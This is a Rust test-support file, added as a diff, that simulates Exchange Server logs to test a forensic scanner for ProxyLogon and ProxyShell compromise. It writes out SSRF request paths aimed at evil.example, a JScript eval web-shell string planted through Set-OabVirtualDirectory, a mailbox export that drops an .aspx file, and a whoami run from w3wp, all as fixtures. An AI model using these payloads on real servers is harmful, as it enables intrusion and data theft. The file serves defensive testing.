@@ -1,0 +1,861 @@
+//! History: a random life of a server, written down as its logs, with what a report must say of it.
+//!
+//! The truth is known from how the history was drawn, not from what reads it: an attack leaves traces of a known weight in known
+//! kinds of logs; rotation, holes and missing kinds take some away; what is left decides.
+
+use std::collections::BTreeMap;
+use std::fmt::Write as _;
+use std::fs;
+use std::io::Write as _;
+use std::path::Path;
+
+use evidence::Moment;
+use scout::assessment::{Chain, Grade, Verdict};
+
+const HOUR_MS: i64 = 3_600_000;
+
+/// Chance that can be repeated.
+#[derive(Debug)]
+pub(crate) struct Dice(u64);
+
+impl Dice {
+    pub(crate) fn new(seed: u64) -> Self {
+        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0x5851_f42d_4c95_7f2d)
+    }
+
+    fn next(&mut self) -> u64 {
+        // SplitMix64
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mut mixed = self.0;
+        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        mixed ^ (mixed >> 31)
+    }
+
+    pub(crate) fn below(&mut self, bound: i64) -> i64 {
+        i64::try_from(self.next() % u64::try_from(bound.max(1)).unwrap()).unwrap()
+    }
+
+    fn one_in(&mut self, of: i64) -> bool {
+        self.below(of) == 0
+    }
+}
+
+/// A build, with whether it is open for ProxyLogon and for ProxyShell (exchange_builds.csv).
+type KnownBuild = ([u16; 4], bool, bool);
+
+const BUILDS: [KnownBuild; 5] = [
+    ([15, 1, 2176, 2], true, true),
+    ([15, 1, 2176, 9], false, true),
+    ([15, 1, 2176, 14], false, false),
+    ([15, 1, 2242, 4], false, true),
+    ([15, 1, 2308, 8], false, false),
+];
+
+/// Kinds of logs in which something is written every hour.
+const PROXIES: [&str; 9] = [
+    "Autodiscover",
+    "Eas",
+    "Ecp",
+    "Ews",
+    "Mapi",
+    "Oab",
+    "Owa",
+    "PowerShell",
+    "RpcHttp",
+];
+
+/// How far an intruder wants to go.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Plan {
+    Scan,
+    Forge,
+    Plant,
+}
+
+#[derive(Clone, Debug)]
+struct Attack {
+    chain: Chain,
+    hour: i64,
+    plan: Plan,
+    /// Whether it works: the server is open.
+    works: bool,
+    /// Whether the planted page was taken away again, with what was compiled of it.
+    cleaned: bool,
+    address: String,
+    page: String,
+}
+
+/// A line of a log with its kind and hour.
+#[derive(Clone, Debug)]
+struct Line {
+    kind: String,
+    at: Moment,
+    text: String,
+    /// What it gives away.
+    grade: Option<Grade>,
+}
+
+/// A random life of a server.
+#[derive(Clone, Debug)]
+pub(crate) struct History {
+    seed: u64,
+    begin: i64,
+    hours: i64,
+    /// From which hour on which build ran.
+    builds: Vec<(i64, KnownBuild)>,
+    lines: Vec<Line>,
+    /// Exports and lists: name and content.
+    exports: BTreeMap<String, String>,
+    planted: Option<Grade>,
+    /// Whether an export shows that the server came to be when the logs begin.
+    is_young: bool,
+    rotated: bool,
+    has_hole: bool,
+    outside: bool,
+}
+
+impl History {
+    /// Draws one.
+    pub(crate) fn draw(seed: u64) -> Self {
+        let dice = &mut Dice::new(seed);
+        // Most begin before the first attack; the others show that they are young, or do not.
+        let begin = match dice.below(4) {
+            0 => Moment::parse("2021-03-01T00:00:00Z").unwrap().hour() + dice.below(200),
+            1 => Moment::parse("2021-08-10T00:00:00Z").unwrap().hour() + dice.below(200),
+            _ => Moment::parse("2020-12-30T00:00:00Z").unwrap().hour() + dice.below(70),
+        };
+        let hours = 110 + dice.below(90);
+        let mut history = Self {
+            seed,
+            begin,
+            hours,
+            builds: Vec::new(),
+            lines: Vec::new(),
+            exports: BTreeMap::new(),
+            planted: None,
+            is_young: dice.one_in(2),
+            rotated: false,
+            has_hole: false,
+            outside: !dice.one_in(5),
+        };
+        history.draw_builds(dice);
+        history.write_everyday(dice);
+        let attack = (!dice.one_in(3)).then(|| history.draw_attack(dice));
+        history.write_exports(attack.as_ref());
+        if let Some(attack) = &attack {
+            history.write_attack(attack);
+        }
+        history.take_away(dice, attack.as_ref());
+        history
+    }
+
+    /// One that is attacked, with everything kept: for tests that take things away.
+    pub(crate) fn attacked(seed: u64) -> Self {
+        let mut seed = seed;
+        loop {
+            let mut history = Self::draw(seed);
+            if history.weight() == Some(Grade::Success)
+                && !history.has_hole
+                && !history.rotated
+                && history.planted.is_some()
+            {
+                history.is_young = true;
+                return history;
+            }
+            seed += 1_000;
+        }
+    }
+
+    fn draw_builds(&mut self, dice: &mut Dice) {
+        let first = usize::try_from(dice.below(5)).unwrap();
+        self.builds.push((self.begin, BUILDS[first]));
+        let (mut at, mut index) = (self.begin, first);
+        while index + 1 < BUILDS.len() && dice.one_in(2) {
+            at += 12 + dice.below(40);
+            index += 1 + usize::try_from(dice.below(2)).unwrap();
+            if at >= self.begin + self.hours - 6 || index >= BUILDS.len() {
+                break;
+            }
+            self.builds.push((at, BUILDS[index]));
+        }
+    }
+
+    fn build_at(&self, hour: i64) -> KnownBuild {
+        self.builds
+            .iter()
+            .rev()
+            .find(|(from, _)| *from <= hour)
+            .expect("the first is from the beginning")
+            .1
+    }
+
+    fn draw_attack(&self, dice: &mut Dice) -> Attack {
+        let chain = if dice.one_in(2) {
+            Chain::ProxyLogon
+        } else {
+            Chain::ProxyShell
+        };
+        let hour = self.begin + 8 + dice.below(self.hours - 16);
+        let (_, logon, shell) = self.build_at(hour);
+        let is_open = if chain == Chain::ProxyLogon {
+            logon
+        } else {
+            shell
+        };
+        Attack {
+            chain,
+            hour,
+            plan: [Plan::Scan, Plan::Forge, Plan::Plant, Plan::Plant]
+                [usize::try_from(dice.below(4)).unwrap()],
+            works: is_open,
+            cleaned: dice.one_in(2),
+            address: format!("203.0.113.{}", 1 + dice.below(250)),
+            page: format!("q{}.aspx", 1_000 + dice.below(9_000)),
+        }
+    }
+
+    fn put(&mut self, kind: &str, at: Moment, text: String, grade: Option<Grade>) {
+        self.lines.push(Line {
+            kind: kind.to_owned(),
+            at,
+            text,
+            grade,
+        });
+    }
+
+    /// What a server writes when nobody attacks it.
+    fn write_everyday(&mut self, dice: &mut Dice) {
+        for hour in self.begin..self.begin + self.hours {
+            let at = Moment::of_hour(hour).plus_ms(dice.below(HOUR_MS - 1));
+            for protocol in PROXIES {
+                let client = if self.outside && dice.one_in(3) {
+                    "198.51.100.77"
+                } else {
+                    "127.0.0.1"
+                };
+                let path = match protocol {
+                    "Owa" => "/owa/auth/logon.aspx",
+                    "Ecp" => "/ecp/default.aspx",
+                    "Autodiscover" => "/autodiscover/autodiscover.json",
+                    _ => "/x/",
+                };
+                let query = if protocol == "Autodiscover" {
+                    "?Email=anna@example.org&Protocol=ActiveSync"
+                } else {
+                    ""
+                };
+                let row = self.proxy_row(
+                    at,
+                    protocol,
+                    path,
+                    query,
+                    "Sid~S-1-5-21-1",
+                    client,
+                    200,
+                    "GET",
+                );
+                self.put(&format!("HttpProxy {protocol}"), at, row, None);
+            }
+            let row = iis_row(
+                at,
+                "GET",
+                "/owa/auth/logon.aspx",
+                "url=x&reason=0",
+                "198.51.100.77",
+                200,
+            );
+            self.put("IIS", at, row, None);
+            if hour % 6 == 0 {
+                let build = dotted(self.build_at(hour).0);
+                let row = format!(
+                    "{at},MAIL01,ECP.Request,S:TIME=13;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList;S:EX=;S:BLD={build}"
+                );
+                self.put("ECP server", at, row, None);
+                for (channel, id) in [
+                    ("Application", 1001),
+                    ("Security", 4624),
+                    ("System", 7036),
+                    ("MSExchange Management", 1),
+                ] {
+                    let row = event_row(
+                        at,
+                        channel,
+                        id,
+                        "Cmdlet suceeded. Cmdlet Get-Mailbox, parameters -ResultSize \"1\".",
+                        &[],
+                    );
+                    self.put(&format!("events {channel}"), at, row, None);
+                }
+                let row = self.cmdlet_row(at, "Get-Mailbox", "-ResultSize \"\"1\"\"");
+                self.put("remote PowerShell commands", at, row, None);
+            }
+            if hour % 8 == 0 {
+                self.put(
+                    "OAB generator",
+                    at,
+                    format!("{at},OABGeneratorAssistant,generation is complete"),
+                    None,
+                );
+            }
+        }
+    }
+
+    #[expect(clippy::too_many_arguments, reason = "the values of a row")]
+    fn proxy_row(
+        &self,
+        at: Moment,
+        protocol: &str,
+        path: &str,
+        query: &str,
+        anchor: &str,
+        client: &str,
+        status: u16,
+        method: &str,
+    ) -> String {
+        let [major, minor, build, revision] = self.build_at(at.hour()).0;
+        // Of the 74 columns, those between are empty here as they mostly are.
+        format!(
+            "{at},{:08x}-1ddc-48d3-82c6-0199bc121640,{major},{minor},{build},{revision},,{protocol},mail.example.org,{path},,FBA,false,,,{anchor},Mozilla/5.0 (Windows NT 10.0),{client},MAIL01,{status},{status},,{method},Proxy,mail01.example.org,15.01.2176.000,IntraForest,,{},{query},,BeginRequest={at};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942063431;,,,,,,",
+            at.0 & 0xffff_ffff,
+            ",".repeat(36),
+        )
+    }
+
+    fn cmdlet_row(&self, at: Moment, cmdlet: &str, parameters: &str) -> String {
+        let [major, minor, build, revision] = self.build_at(at.hour()).0;
+        format!(
+            "{at},{at},7b91be61-3d94-406e-b00c-3d80e3e5f115,,{major},{minor},{build},{revision},MAIL01,15756,w3wp#MSExchangePowerShellAppPool,85,,,SYSTEM,S-1-5-18,,,False,x,{cmdlet},\"{parameters}\",d61f0cba-945f-4857-8c62-91321f16b7b4"
+        )
+    }
+
+    /// Lists and exports of a server where nothing was planted, and what was, if it is still there.
+    fn write_exports(&mut self, attack: Option<&Attack>) {
+        let proxy = r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy";
+        let cache = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files";
+        let mut web = format!(
+            "FullName,Length,CreationTimeUtc,LastWriteTimeUtc,SHA256\n{proxy}\\owa\\auth\\logon.aspx,10,2020-12-01 00:00:00,2020-12-01 00:00:00,\n"
+        );
+        let mut compiled = format!(
+            "FullName,Length,CreationTimeUtc\n{cache}\\owa\\8e05b027\\e164d61b\\logon.aspx.cdcab7d2.compiled,10,2020-12-01 00:00:00\n"
+        );
+        if let Some(attack) =
+            attack.filter(|attack| attack.works && attack.plan == Plan::Plant && !attack.cleaned)
+        {
+            let at = Moment::of_hour(attack.hour)
+                .plus_ms(400_000)
+                .to_string()
+                .replace(['T', 'Z'], " ");
+            let _ = writeln!(
+                web,
+                "C:\\inetpub\\wwwroot\\aspnet_client\\{},2000,{at},{at},",
+                attack.page
+            );
+            let _ = writeln!(
+                compiled,
+                "{cache}\\root\\e22c2559\\92c7e946\\{}.5a3dcb8f.compiled,300,{at}",
+                attack.page
+            );
+            self.planted = Some(Grade::Success);
+        }
+        let mut put = |name: &str, content: &str| {
+            self.exports.insert(name.to_owned(), content.to_owned());
+        };
+        put("web-files.csv", &web);
+        put("compiled-pages.csv", &compiled);
+        put(
+            "applicationHost.config",
+            "<configuration><system.webServer><globalModules><add name=\"UriCacheModule\" image=\"%windir%\\System32\\inetsrv\\cachuri.dll\" /></globalModules></system.webServer></configuration>",
+        );
+        put(
+            "inbox-rules.csv",
+            "Name,MailboxOwnerId,ForwardTo,RedirectTo,DeleteMessage\n",
+        );
+        put(
+            "mailboxes.csv",
+            "Name,PrimarySmtpAddress,ForwardingAddress,ForwardingSmtpAddress\nanna,anna@example.org,,\n",
+        );
+        put(
+            "mailbox-permissions.csv",
+            "Identity,User,AccessRights,IsInherited,Deny\nanna,NT AUTHORITY\\SELF,\"FullAccess, ReadPermission\",False,False\n",
+        );
+        put(
+            "folder-permissions.csv",
+            "Identity,FolderName,User,AccessRights\nanna,Calendar,Default,AvailabilityOnly\n",
+        );
+        put("transport-rules.csv", "");
+        put(
+            "transport-agents.csv",
+            "Identity,Enabled,TransportAgentFactory,AssemblyPath\n",
+        );
+        put(
+            "virtual-directories.csv",
+            "Identity,InternalUrl,ExternalUrl,Path\nOAB (Default Web Site),https://mail.example.org/OAB,,C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB\n",
+        );
+        put("role-groups.csv", "RoleGroup,Member\n");
+        put(
+            "scheduled-tasks.csv",
+            "TaskName,TaskPath,Actions\nDefrag,\\Microsoft\\Windows\\Defrag\\,%windir%\\system32\\defrag.exe\n",
+        );
+        if self.is_young {
+            let created = Moment::of_hour(self.begin).to_string();
+            put(
+                "exchange-servers.csv",
+                &format!(
+                    "Name,ServerRole,AdminDisplayVersion,WhenCreatedUTC\nMAIL01,Mailbox,Version 15.1,{created}\n"
+                ),
+            );
+        }
+    }
+
+    /// What an intruder leaves behind.
+    fn write_attack(&mut self, attack: &Attack) {
+        let begin = Moment::of_hour(attack.hour).plus_ms(300_000);
+        let at = |second: i64| begin.plus_ms(second * 1_000);
+        let address = attack.address.as_str();
+        let fails = |status: u16| if attack.works { status } else { 500 };
+        let is_logon = attack.chain == Chain::ProxyLogon;
+        let proxy = |history: &mut Self, second: i64, target: &str, status: u16, grade: Grade| {
+            let (protocol, path, query, anchor) = if is_logon {
+                (
+                    "Ecp",
+                    "/ecp/y.js",
+                    String::new(),
+                    format!("ServerInfo~{target}"),
+                )
+            } else {
+                (
+                    "Autodiscover",
+                    "/autodiscover/autodiscover.json",
+                    target.to_owned(),
+                    String::new(),
+                )
+            };
+            let row = history.proxy_row(
+                at(second),
+                protocol,
+                path,
+                &query,
+                &anchor,
+                address,
+                status,
+                "POST",
+            );
+            history.put(
+                &format!("HttpProxy {protocol}"),
+                at(second),
+                row,
+                Some(grade),
+            );
+        };
+        let tail = "&Email=autodiscover/autodiscover.json%3F@evil.example";
+        match (is_logon, attack.plan) {
+            (true, Plan::Scan) => proxy(self, 0, "localhost/ecp/default.flt?~3", 200, Grade::Scan),
+            (false, Plan::Scan) => proxy(
+                self,
+                0,
+                &format!("?@evil.example/mapi/nspi/?{tail}"),
+                fails(200),
+                Grade::Scan,
+            ),
+            (true, _) => proxy(
+                self,
+                1,
+                "a]@mail01.example.org:444/autodiscover/autodiscover.xml?#",
+                fails(200),
+                Grade::Attempt,
+            ),
+            (false, _) => proxy(
+                self,
+                1,
+                &format!("?@evil.example/autodiscover/autodiscover.xml?{tail}"),
+                fails(200),
+                Grade::Attempt,
+            ),
+        }
+        if attack.plan != Plan::Plant {
+            return;
+        }
+        if !attack.works {
+            match is_logon {
+                true => proxy(
+                    self,
+                    3,
+                    "a]@mail01.example.org:444/ecp/proxyLogon.ecp?#",
+                    500,
+                    Grade::Attempt,
+                ),
+                false => proxy(
+                    self,
+                    3,
+                    &format!("?a=x@evil.example/powershell/?X-Rps-CAT=VgEA{tail}"),
+                    401,
+                    Grade::Attempt,
+                ),
+            }
+            return;
+        }
+        let page = attack.page.as_str();
+        if is_logon {
+            proxy(
+                self,
+                3,
+                "a]@mail01.example.org:444/ecp/proxyLogon.ecp?#",
+                241,
+                Grade::Success,
+            );
+            proxy(
+                self,
+                4,
+                "a]@mail01.example.org:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory#",
+                200,
+                Grade::Success,
+            );
+            let shell = r#"http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>"#;
+            let row = format!(
+                "{},MAIL01,ECP.Request,\"S:TIME=90;S:CMD=Set-OabVirtualDirectory.ExternalUrl='{}'.Identity='1';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:EX=;S:BLD={}\"",
+                at(5),
+                shell.replace('"', "\"\""),
+                dotted(self.build_at(attack.hour).0)
+            );
+            self.put("ECP server", at(5), row, Some(Grade::Success));
+            let message = format!(
+                "Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl \"{shell}\" -Identity \"OAB (Default Web Site)\"."
+            );
+            self.put(
+                "events MSExchange Management",
+                at(5),
+                event_row(at(5), "MSExchange Management", 1, &message, &[]),
+                Some(Grade::Success),
+            );
+            proxy(
+                self,
+                8,
+                "a]@mail01.example.org:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#",
+                200,
+                Grade::Success,
+            );
+        } else {
+            proxy(
+                self,
+                3,
+                &format!("?a=x@evil.example/powershell/?X-Rps-CAT=VgEA{tail}"),
+                200,
+                Grade::Success,
+            );
+            let parameters = format!(
+                "-Mailbox \"anna\" -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\{page}\""
+            );
+            let row = self.cmdlet_row(
+                at(6),
+                "New-MailboxExportRequest",
+                &parameters.replace('"', "\"\""),
+            );
+            self.put(
+                "remote PowerShell commands",
+                at(6),
+                row,
+                Some(Grade::Success),
+            );
+            let message = format!(
+                "Cmdlet suceeded. Cmdlet New-MailboxExportRequest, parameters {parameters}."
+            );
+            self.put(
+                "events MSExchange Management",
+                at(6),
+                event_row(at(6), "MSExchange Management", 1, &message, &[]),
+                Some(Grade::Success),
+            );
+        }
+        let row = iis_row(
+            at(60),
+            "POST",
+            &format!("/aspnet_client/{page}"),
+            "-",
+            address,
+            200,
+        );
+        self.put("IIS", at(60), row, Some(Grade::Success));
+        let values = [
+            ("NewProcessName", r"C:\Windows\System32\cmd.exe"),
+            ("ParentProcessName", r"C:\Windows\System32\inetsrv\w3wp.exe"),
+            ("CommandLine", "cmd /c whoami"),
+        ];
+        self.put(
+            "events Security",
+            at(61),
+            event_row(
+                at(61),
+                "Security",
+                4688,
+                "A new process has been created.",
+                &values,
+            ),
+            Some(Grade::Success),
+        );
+    }
+
+    /// Rotation, holes, and kinds that nobody collected.
+    fn take_away(&mut self, dice: &mut Dice, attack: Option<&Attack>) {
+        if dice.one_in(4) {
+            // Rotation: all logs older than some hour are gone.
+            let until = self.begin + 12 + dice.below(self.hours / 2);
+            self.lines.retain(|line| line.at.hour() >= until);
+            self.rotated = true;
+            self.is_young = false;
+        }
+        if dice.one_in(4) {
+            // A hole in one log, mostly where it hurts.
+            let kinds: Vec<String> = PROXIES
+                .iter()
+                .map(|protocol| format!("HttpProxy {protocol}"))
+                .chain(["IIS".to_owned()])
+                .collect();
+            let kind = kinds[usize::try_from(dice.below(10)).unwrap()].clone();
+            let middle = attack
+                .filter(|_| dice.one_in(2))
+                .map_or(self.begin + 20 + dice.below(self.hours - 60), |attack| {
+                    attack.hour - 4
+                });
+            let hole = middle.max(self.begin + 2)..middle + 10;
+            // What is written in the hour before the attack began is no hole before 2021-01-03.
+            let is_in_time = hole.end > Moment::parse("2021-01-03T00:00:00Z").unwrap().hour() + 1
+                && hole.end < self.begin + self.hours;
+            if is_in_time
+                && self
+                    .lines
+                    .iter()
+                    .any(|line| line.kind == kind && line.at.hour() < hole.start)
+            {
+                self.lines
+                    .retain(|line| line.kind != kind || !hole.contains(&line.at.hour()));
+                self.has_hole = true;
+            }
+        }
+        if dice.one_in(5) {
+            let kinds = [
+                "HttpProxy Owa",
+                "HttpProxy Ecp",
+                "IIS",
+                "ECP server",
+                "OAB generator",
+                "events Security",
+                "remote PowerShell commands",
+            ];
+            let kind = kinds[usize::try_from(dice.below(7)).unwrap()];
+            self.lines.retain(|line| line.kind != kind);
+            self.has_hole = true;
+        }
+    }
+
+    /// The weightiest trace that is left.
+    fn weight(&self) -> Option<Grade> {
+        self.lines
+            .iter()
+            .filter_map(|line| line.grade)
+            .chain(self.planted)
+            .max()
+    }
+
+    /// What a report must say.
+    pub(crate) fn expected(&self) -> Verdict {
+        let attacked_since = Moment::parse("2021-01-03T00:00:00Z").unwrap();
+        let first = self
+            .lines
+            .iter()
+            .filter(|line| line.kind.starts_with("HttpProxy") || line.kind == "IIS")
+            .map(|line| line.at)
+            .min();
+        match self.weight() {
+            Some(Grade::Success) => Verdict::Compromised,
+            Some(_) => Verdict::Attempted,
+            None if self.has_hole
+                || (!self.is_young && first.is_some_and(|first| first > attacked_since)) =>
+            {
+                Verdict::CannotKnow
+            }
+            None => Verdict::NoTrace,
+        }
+    }
+
+    /// When a hole was open, by hour, as far as the logs show: first and last hour, whether it is closed after.
+    pub(crate) fn windows(&self, chain: Chain) -> Vec<(i64, i64, bool)> {
+        let tells = |line: &&Line| {
+            line.kind.starts_with("HttpProxy")
+                || matches!(
+                    line.kind.as_str(),
+                    "ECP server" | "remote PowerShell commands"
+                )
+        };
+        let mut hours: Vec<i64> = self
+            .lines
+            .iter()
+            .filter(tells)
+            .map(|line| line.at.hour())
+            .collect();
+        hours.sort_unstable();
+        hours.dedup();
+        let mut windows: Vec<(i64, i64, bool)> = Vec::new();
+        let mut is_open = false;
+        for hour in hours {
+            let (_, logon, shell) = self.build_at(hour);
+            let open = if chain == Chain::ProxyLogon {
+                logon
+            } else {
+                shell
+            };
+            match (open, is_open) {
+                (true, false) => windows.push((hour, hour, false)),
+                (true, true) => windows.last_mut().expect("it is open").1 = hour,
+                (false, true) => windows.last_mut().expect("it was open").2 = true,
+                (false, false) => {}
+            }
+            is_open = open;
+        }
+        windows
+    }
+
+    /// Kinds of logs of which something is left, and names of exports.
+    pub(crate) fn kinds(&self) -> Vec<String> {
+        let mut kinds: Vec<_> = self
+            .lines
+            .iter()
+            .map(|line| line.kind.clone())
+            .chain(self.exports.keys().cloned())
+            .collect();
+        kinds.sort();
+        kinds.dedup();
+        kinds
+    }
+
+    /// The history without one kind.
+    pub(crate) fn without(&self, kind: &str) -> Self {
+        let mut less = self.clone();
+        less.lines.retain(|line| line.kind != kind);
+        less.exports.remove(kind);
+        less
+    }
+
+    /// Writes everything into a folder: one file a day and kind; some packed, some with a plain row of names, some in UTF-16.
+    pub(crate) fn write(&self, folder: &Path) {
+        let mut files: BTreeMap<(String, i64), Vec<&Line>> = BTreeMap::new();
+        for line in &self.lines {
+            files
+                .entry((line.kind.clone(), line.at.hour() / 24))
+                .or_default()
+                .push(line);
+        }
+        for ((kind, day), mut lines) in files {
+            lines.sort_by_key(|line| line.at);
+            let variant = self.seed.wrapping_add(day.unsigned_abs()) % 4;
+            let (path, head) = place_of(&kind, day, variant);
+            let shift = if kind.starts_with("events ") && variant == 1 {
+                Some(-5 * HOUR_MS)
+            } else {
+                None
+            };
+            let mut text = head;
+            if shift.is_some() {
+                // Sysmon tells how far the times of this export are from UTC.
+                let at = lines[0].at;
+                let utc = at.to_string().replace('T', " ").replace('Z', "");
+                let _ = writeln!(
+                    text,
+                    "{}",
+                    serde_json::json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 3, "TimeCreated": at.plus_ms(-5 * HOUR_MS).to_string(), "UtcTime": utc})
+                );
+            }
+            for line in lines {
+                match shift {
+                    Some(shift) => text.push_str(
+                        &line
+                            .text
+                            .replace(&line.at.to_string(), &line.at.plus_ms(shift).to_string()),
+                    ),
+                    None => text.push_str(&line.text),
+                }
+                text.push_str(if variant == 2 { "\r\n" } else { "\n" });
+            }
+            put_file(folder, &path, &text, variant, day);
+        }
+        for (name, content) in &self.exports {
+            put_file(folder, &format!("exports/{name}"), content, 0, 1);
+        }
+    }
+}
+
+fn put_file(folder: &Path, path: &str, text: &str, variant: u64, day: i64) {
+    let whole = folder.join(path);
+    fs::create_dir_all(whole.parent().unwrap()).unwrap();
+    if variant == 3 && day % 2 == 0 {
+        let file = fs::File::create(folder.join(format!("{path}.gz"))).unwrap();
+        let mut packed = flate2::write::GzEncoder::new(file, flate2::Compression::fast());
+        packed.write_all(text.as_bytes()).unwrap();
+        packed.finish().unwrap();
+    } else if variant == 1 && day % 2 == 0 {
+        let units: Vec<u8> = std::iter::once(0xfeff)
+            .chain(text.encode_utf16())
+            .flat_map(u16::to_le_bytes)
+            .collect();
+        fs::write(whole, units).unwrap();
+    } else {
+        fs::write(whole, text).unwrap();
+    }
+}
+
+fn place_of(kind: &str, day: i64, variant: u64) -> (String, String) {
+    let date: String = Moment::of_hour(day * 24).to_string()[..10].replace('-', "");
+    let exchange = |log: &str, fields: &str| {
+        let plain = if variant == 2 {
+            format!("{fields}\n")
+        } else {
+            String::new()
+        };
+        format!(
+            "{plain}#Software: Microsoft Exchange Server\n#Version: 15.0.0.0\n#Log-type: {log}\n#Date: 2021-01-01T00:00:00.000Z\n#Fields: {fields}\n"
+        )
+    };
+    if let Some(protocol) = kind.strip_prefix("HttpProxy ") {
+        return (
+            format!("HttpProxy/{protocol}/HttpProxy_{date}-1.LOG"),
+            exchange("HttpProxy Logs", evidence::columns::HTTP_PROXY),
+        );
+    }
+    if let Some(channel) = kind.strip_prefix("events ") {
+        return (format!("events/{channel}-{date}.jsonl"), String::new());
+    }
+    match kind {
+        "IIS" => (format!("LogFiles/W3SVC1/u_ex{}.log", &date[2..]), "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n".to_owned()),
+        "ECP server" => (format!("ECP/Server/ECPServer{date}-1.LOG"), exchange("ECP Server Log", evidence::columns::ECP_SERVER)),
+        "OAB generator" => (format!("OABGeneratorLog/OAB{date}-1.LOG"), exchange("OABGeneratorLog", "DateTime,Component,Message")),
+        _ => (format!("CmdletInfra/Rps_Cmdlet_{date}-1.LOG"), exchange("Rps Cmdlet Logs", evidence::columns::RPS_CMDLET)),
+    }
+}
+
+fn iis_row(
+    at: Moment,
+    method: &str,
+    path: &str,
+    query: &str,
+    address: &str,
+    status: u16,
+) -> String {
+    let text = at.to_string();
+    format!(
+        "{} {} 10.0.0.5 {method} {path} {query} 443 - {address} Mozilla/5.0+(Windows+NT+10.0) - {status} 0 0 15",
+        &text[..10],
+        &text[11..19]
+    )
+}
+
+fn event_row(at: Moment, channel: &str, id: u32, message: &str, values: &[(&str, &str)]) -> String {
+    let mut event = serde_json::json!({"Channel": channel, "EventID": id, "TimeCreated": at.to_string(), "Hostname": "MAIL01", "Message": message});
+    for (name, value) in values {
+        event[*name] = serde_json::json!(value);
+    }
+    event.to_string()
+}
+
+fn dotted(build: [u16; 4]) -> String {
+    build.map(|part| part.to_string()).join(".")
+}
